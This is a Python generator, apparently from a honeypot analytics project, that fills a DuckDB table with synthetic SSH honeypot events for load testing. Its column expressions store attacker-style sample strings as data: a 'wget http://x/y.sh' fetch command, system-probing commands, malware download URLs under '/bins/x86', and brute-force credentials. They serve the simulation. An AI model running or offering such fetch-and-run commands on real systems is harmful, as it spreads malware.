"""Fill a data directory's DuckDB store with N synthetic events, fast, in the exact schema.

The schema is created by honeyatlas itself (DuckDBStore.start runs the migrations), then
one `INSERT ... SELECT ... FROM range(N)` computes every column with DuckDB expressions,
on all cores, and the dashboard rollups are folded once (what the server's writer would
otherwise do when it opens the store). Every column of `EVENT_COLUMNS` must have an expression here: a schema change
fails this generator loudly instead of filling a stale layout.

Shape of the data (documented in docs/performance.md): timestamps evenly spread over the
last `span_hours` (default 24 h, so the summary's 24-hour window covers every row: the worst
case), 20 sensors, a pool of 200,000 source addresses drawn with a skew (a few loud
attackers, a long tail), each address with a fixed country (30 codes, CN and US weighted)
and ASN, 8 destination ports, 6 event kinds, and a `raw` of about 250 bytes per event.
"""

from __future__ import annotations

import asyncio
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import duckdb

from honeyatlas.metrics import Metrics
from honeyatlas.store import duckdb_stats
from honeyatlas.store.duckdb import EVENT_COLUMNS, DuckDBStore

COUNTRIES = ["CN", "CN", "CN", "US", "US", "US", "RU", "RU", "DE", "NL", "BR", "IN", "VN", "KR", "FR", "GB",
             "SG", "HK", "TW", "ID", "UA", "IR", "JP", "CA", "TR", "TH", "PL", "AR", "MX", "ZA"]

# h = hash(i) as a positive BIGINT, a: the source-address index (skewed: u^3 puts most rows on a
# few addresses), ha = hash(a): everything about one address derives from it.
_EXPRESSIONS = {
    "id": "format('{:016x}{:016x}', i, h)",
    "ts": "make_timestamp(start_us + i * step_us)",
    "ingest_ts": "make_timestamp(start_us + i * step_us + 1000000)",
    "sensor": "'sensor-' || (h % 20)::VARCHAR",
    "honeypot": "'cowrie'",
    "kind": "['connection','login_attempt','command','file_download','scan','login_attempt'][1 + (h >> 8) % 6]",
    "action": "'cowrie.' || ['session.connect','login.failed','command.input','session.file_download','session.connect','login.success'][1 + (h >> 8) % 6]",
    "outcome": "['unknown','failure','success','success','unknown','success'][1 + (h >> 8) % 6]",
    "src_ip": "((ha % 223) + 1)::VARCHAR || '.' || ((ha >> 8) % 256)::VARCHAR || '.' || "
              "((ha >> 16) % 256)::VARCHAR || '.' || ((ha >> 24) % 256)::VARCHAR",
    "src_port": "(1024 + (h >> 20) % 60000)::INTEGER",
    "dst_ip": "'10.0.0.' || (h % 20)::VARCHAR",
    "dst_port": "[22, 23, 80, 443, 445, 2222, 3389, 8080][1 + (h >> 36) % 8]::INTEGER",
    "transport": "'tcp'",
    "protocol": "'ssh'",
    "session": "format('{:012x}', i // 8)",
    "username": "CASE WHEN (h >> 8) % 6 IN (1, 5) THEN ['root','admin','user','test','ubuntu'][1 + (h >> 40) % 5] END",
    "password": "CASE WHEN (h >> 8) % 6 IN (1, 5) THEN 'pw' || ((h >> 44) % 5000)::VARCHAR END",
    "command": "CASE WHEN (h >> 8) % 6 = 2 THEN ['uname -a','cat /proc/cpuinfo','wget http://x/y.sh','id'][1 + (h >> 40) % 4] END",
    "url": "CASE WHEN (h >> 8) % 6 = 3 THEN 'http://198.51.100.' || ((h >> 40) % 200)::VARCHAR || '/bins/x86' END",
    "sha256": "CASE WHEN (h >> 8) % 6 = 3 THEN sha256(((h >> 40) % 500)::VARCHAR) END",
    "md5": "NULL",
    "signature": "NULL",
    "severity": "NULL",
    "user_agent": "NULL",
    "client_version": "CASE WHEN (h >> 8) % 6 = 0 THEN 'SSH-2.0-Go' END",
    "src_country": f"{COUNTRIES!r}[1 + ha % {len(COUNTRIES)}]",
    "src_city": "NULL",
    "src_lat": "((ha >> 4) % 120000) / 1000.0 - 60",
    "src_lon": "((ha >> 12) % 360000) / 1000.0 - 180",
    "src_asn": "(4000 + ha % 5000)::BIGINT",
    "src_org": "'AS' || (4000 + ha % 5000)::VARCHAR || ' Example Hosting'",
    "src_precision": "'country'",
    "dst_country": "NULL",
    "dst_city": "NULL",
    "dst_lat": "50.11",
    "dst_lon": "8.68",
    "dst_asn": "NULL",
    "dst_org": "NULL",
    "dst_precision": "'sensor'",
    "flags": "[]::VARCHAR[]",
    "warnings": "[]::VARCHAR[]",
    "raw": "'{\"eventid\":\"cowrie.login.failed\",\"username\":\"root\",\"password\":\"pw' || (h % 5000)::VARCHAR || "
           "'\",\"message\":\"login attempt [root/pw] failed\",\"sensor\":\"sensor-' || (h % 20)::VARCHAR || "
           "'\",\"timestamp\":\"' || make_timestamp(start_us + i * step_us)::VARCHAR || "
           "'Z\",\"src_port\":' || (1024 + (h >> 20) % 60000)::VARCHAR || ',\"session\":\"' || format('{:012x}', i // 8) || "
           "'\",\"protocol\":\"ssh\",\"dst_port\":22,\"uuid\":\"' || format('{:016x}', h) || '\"}'",
    "v": "1::SMALLINT",
}


def fill_store(data_dir: Path, rows: int, *, span_hours: float = 24.0, now: datetime | None = None) -> dict[str, float]:
    """Create the store in `data_dir` (if new) and append `rows` synthetic events to it."""
    missing = {name for name, _, _ in EVENT_COLUMNS} ^ set(_EXPRESSIONS)
    if missing:
        raise RuntimeError(f"fill.py and EVENT_COLUMNS disagree on columns: {sorted(missing)}")
    path = data_dir / "events.duckdb"
    store = DuckDBStore(path, max_pending_events=1, write_batch_max_events=1, metrics=Metrics())

    async def migrate() -> None:
        await store.start()
        await store.stop()

    asyncio.run(migrate())
    now = (now or datetime.now(UTC)).astimezone(UTC).replace(tzinfo=None)
    start = now - timedelta(hours=span_hours)
    start_us = int(start.replace(tzinfo=UTC).timestamp() * 1_000_000)
    step_us = max(1, int(span_hours * 3600 * 1_000_000 / max(rows, 1)))
    names = [name for name, _, _ in EVENT_COLUMNS]
    select = ", ".join(_EXPRESSIONS[name] for name in names)
    sql = (
        f"INSERT INTO events ({', '.join(names)}) "
        f"SELECT {select} FROM (SELECT *, (hash(a) >> 1)::BIGINT AS ha FROM ("
        f"SELECT *, floor(pow(((h >> 11) % 1000000) / 1000000.0, 3) * 200000)::BIGINT AS a FROM ("
        f"SELECT i, (hash(i) >> 1)::BIGINT AS h, {start_us}::BIGINT AS start_us, {step_us}::BIGINT AS step_us "
        f"FROM range({rows}) t(i))))"
    )
    began = time.monotonic()
    con = duckdb.connect(str(path))
    try:
        con.execute("SET enable_progress_bar = false")
        con.execute(sql)
        con.execute("CHECKPOINT")
        seconds = time.monotonic() - began
        duckdb_stats.fold(con, datetime.now(UTC).replace(tzinfo=None), timedelta(seconds=10))
        con.execute("CHECKPOINT")
        fold_seconds = time.monotonic() - began - seconds
    finally:
        con.close()
    return {"rows": rows, "seconds": seconds, "rows_per_second": rows / seconds if seconds else 0.0,
            "fold_seconds": fold_seconds, "file_mib": path.stat().st_size / 1048576}
